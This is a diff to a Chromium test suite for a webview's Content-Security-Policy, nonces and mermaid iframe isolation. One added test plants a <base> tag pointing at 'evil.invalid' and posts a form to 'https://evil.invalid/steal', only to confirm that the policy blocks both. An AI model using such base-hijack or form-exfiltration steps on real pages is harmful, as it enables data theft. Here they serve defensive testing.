@@ -21,6 +21,9 @@ declare function getComputedStyle(e: unknown): { fill: string };
 interface HTMLScriptElement {
   nonce: string;
 }
+interface HTMLStyleElement {
+  nonce: string;
+}
 interface HTMLElement {
   style: { transform: string };
 }
@@ -75,14 +78,48 @@ describe('preview webview in Chromium', function () {
     const b = await FakeExtension.open(browser, server, SMALL);
     try {
       const [n1, n2] = server.nonces.slice(-2);
-      assert.notStrictEqual(n1, n2);
+      assert.notStrictEqual(n1.script, n2.script);
+      assert.notStrictEqual(n1.style, n2.style);
+      assert.notStrictEqual(n1.script, n1.style);
       const csp = await a.page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
-      assert.strictEqual(csp, previewCsp(server.origin, server.nonces[server.nonces.length - 2]));
+      assert.strictEqual(csp, previewCsp(server.origin, n1));
       assert.match(csp!, /^default-src 'none'; /);
       assert.doesNotMatch(csp!, /unsafe-eval|unsafe-inline|\*/);
+      // Scripts by one nonce, styles by another; no <base>, no form submission.
+      assert.match(csp!, new RegExp(`script-src 'nonce-${n1.script}';`));
+      assert.match(csp!, new RegExp(`style-src ${server.origin} 'nonce-${n1.style}';`));
+      assert.match(csp!, /base-uri 'none';/);
+      assert.match(csp!, /form-action 'none';/);
       const scripts = await a.page.$$eval('script', (els) => els.map((e) => ({ src: e.getAttribute('src'), nonce: (e as HTMLScriptElement).nonce })));
-      assert.deepStrictEqual(scripts, [{ src: `${server.origin}/webview/preview.js`, nonce: n1 }]);
+      assert.deepStrictEqual(scripts, [{ src: `${server.origin}/webview/preview.js`, nonce: n1.script }]);
+      // The diagram's own stylesheet carries the style nonce, not the script nonce.
+      assert.deepStrictEqual(await a.page.$$eval('#layers-canvas style', (els) => els.map((e) => (e as HTMLStyleElement).nonce)), [n1.style]);
       assert.deepStrictEqual(unexpected(await a.violations()), []);
+      // The policy holds in the page: a <base> and a form that posts are refused (each reports
+      // its violation, which is waited for).
+      const refused = (await a.page.evaluate(`(async () => {
+        const seen = [];
+        const both = new Promise((resolve) => document.addEventListener('securitypolicyviolation', (e) => {
+          seen.push(e.effectiveDirective);
+          if (seen.includes('base-uri') && seen.includes('form-action')) resolve();
+        }));
+        const base = document.createElement('base');
+        base.href = 'https://evil.invalid/';
+        document.head.appendChild(base);
+        const resolved = new URL('x', document.baseURI).origin;
+        base.remove();
+        const form = document.createElement('form');
+        form.action = 'https://evil.invalid/steal';
+        form.method = 'post';
+        document.body.appendChild(form);
+        form.submit();
+        form.remove();
+        await both;
+        return { resolved, seen };
+      })()`)) as { resolved: string; seen: string[] };
+      assert.notStrictEqual(refused.resolved, 'https://evil.invalid');
+      assert.ok(refused.seen.includes('base-uri') && refused.seen.includes('form-action'), JSON.stringify(refused.seen));
+      assert.deepStrictEqual(a.foreignRequests, []);
     } finally {
       await a.close();
       await b.close();
@@ -324,7 +361,7 @@ describe('preview webview in Chromium', function () {
     const ext = await FakeExtension.open(browser, server, text);
     try {
       assert.ok(!server.requests.slice(-5).includes('/webview/mermaidView.js'));
-      assert.strictEqual(await ext.page.evaluate(() => 'strataMermaid' in window), false, 'mermaid is not loaded before its view opens');
+      assert.strictEqual(await ext.page.$$eval('iframe', (f) => f.length), 0, 'mermaid is not loaded before its view opens');
       await ext.page.click('[data-view="mermaid"][role="tab"]');
       await ext.waitFor(() => ext.lastOf('options')?.view === 'mermaid', 'options with the mermaid view');
       await ext.page.waitForSelector('#mermaid-canvas svg', { timeout: 30_000 });
@@ -336,6 +373,23 @@ describe('preview webview in Chromium', function () {
       assert.strictEqual(await ext.page.$$eval('#mermaid-canvas foreignObject', (e) => e.length), 0);
       await ext.page.screenshot({ path: path.join(ARTIFACTS, 'preview-mermaid.png') });
       assert.deepStrictEqual(unexpected(await ext.violations()), []);
+      // mermaid ran in its own frame: the page's prototypes and parser are the browser's own, and
+      // mermaid is not on the page's window; the frame (same policy, no src) holds only its script.
+      const realm = (await ext.page.evaluate(`(() => {
+        const native = (f) => /\\{\\s*\\[native code\\]\\s*\\}$/.test(Function.prototype.toString.call(f));
+        const frame = document.getElementById('strata-mermaid-frame');
+        return {
+          native: [Element.prototype.setAttribute, Document.prototype.createElement, DOMParser.prototype.parseFromString].every(native),
+          onPage: 'strataMermaid' in window,
+          src: frame && frame.getAttribute('src'),
+          inFrame: !!(frame && frame.contentWindow.strataMermaid),
+          frameScripts: frame ? Array.from(frame.contentDocument.scripts).map((s) => s.src.replace(/^.*\\/webview\\//, '')) : [],
+          framePatched: !!frame && !native(frame.contentWindow.Element.prototype.setAttribute),
+        };
+      })()`)) as { native: boolean; onPage: boolean; src: string | null; inFrame: boolean; frameScripts: string[]; framePatched: boolean };
+      assert.deepStrictEqual(realm, { native: true, onPage: false, src: null, inFrame: true, frameScripts: ['mermaidView.js'], framePatched: true });
+      // No CSP report in the frame either (the browser logs those on the console).
+      assert.deepStrictEqual(ext.console.filter((m) => /Content Security Policy/i.test(m.text)), []);
       assert.deepStrictEqual(ext.foreignRequests, []);
       // A mermaid text that does not parse: a message, and the last drawing stays.
       const update = await ext.sendUpdate();
